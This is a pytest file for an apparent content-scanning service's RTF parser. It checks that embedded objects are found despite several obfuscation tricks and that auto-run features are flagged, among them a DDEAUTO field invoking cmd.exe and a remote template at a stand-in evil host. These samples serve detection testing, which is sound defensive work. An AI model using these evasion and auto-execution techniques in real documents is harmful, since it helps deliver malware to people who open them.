"""Objects in RTF, and the ways to hide them."""

from __future__ import annotations

import pytest

from icapd.content.budget import Bounds, Budget
from icapd.content.rtf import look_rtf
from tests.content.samples import ole1, package, rtf_object

PROGRAM = b"MZ" + bytes(range(100))


def asked(data: bytes) -> tuple[set[str], list[bytes]]:
    looked = look_rtf(data, Budget(Bounds(), len(data)))
    return {one.threat for one in looked.findings}, [content for _, content in looked.parts]


def test_an_object_is_a_part() -> None:
    threats, parts = asked(rtf_object(b"Package", package(b"a.exe", PROGRAM)))
    assert threats == {"RTF.Object"}
    assert PROGRAM in parts


@pytest.mark.parametrize(
    "digits",
    [
        lambda text: b"\r\n ".join(text[i : i + 1] for i in range(len(text))),
        lambda text: text[:20] + b"{\\*\\unknown}" + text[20:],
        lambda text: text[:20] + b"\\par\\foo12 " + text[20:],
        lambda text: text[:20] + b"\\'41" + text[20:],
        lambda text: text.upper(),
        lambda text: text[:20] + b"\\bin%d " % ((len(text) - 20) // 2) + bytes.fromhex(text[20:].decode()),
    ],
)
def test_disguised_digits_are_read(digits: object) -> None:
    text = ole1(b"Package", package(b"a.exe", PROGRAM)).hex().encode()
    hidden = digits(text)  # type: ignore[operator]
    _, parts = asked(b"{\\rtf1{\\object\\objemb{\\*\\objdata " + hidden + b"}}}")
    assert PROGRAM in parts


def test_data_without_a_class_is_a_part_behind_its_header() -> None:
    _, parts = asked(b"{\\rtf1{\\object{\\*\\objdata 0105000002000000" + b"58354f2150" + b"}}}")
    assert parts == [b"X5O!P"]


@pytest.mark.parametrize(
    ("text", "threat"),
    [
        (b"\\object\\objautlink\\objupdate", "RTF.Update"),
        (b"{\\*\\template http://evil.test/a.dotm}", "RTF.Template"),
        (b"{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\cmd.exe}}", "DDE"),
    ],
)
def test_what_runs_at_opening_is_told(text: bytes, threat: str) -> None:
    assert asked(b"{\\rtf1 " + text + b"}")[0] == {threat}


def test_the_equation_editor_is_told() -> None:
    assert "RTF.Equation" in asked(rtf_object(b"Equation.3", b"x" * 40))[0]


@pytest.mark.parametrize(
    "text", [b"plain text", b"escaped \\\\objdata 4d5a", b"\\objdataset 1", b"{\\pict\\pngblip 89504e47}"]
)
def test_rtf_without_objects_is_clean(text: bytes) -> None:
    assert asked(b"{\\rtf1 " + text + b"}") == (set(), [])
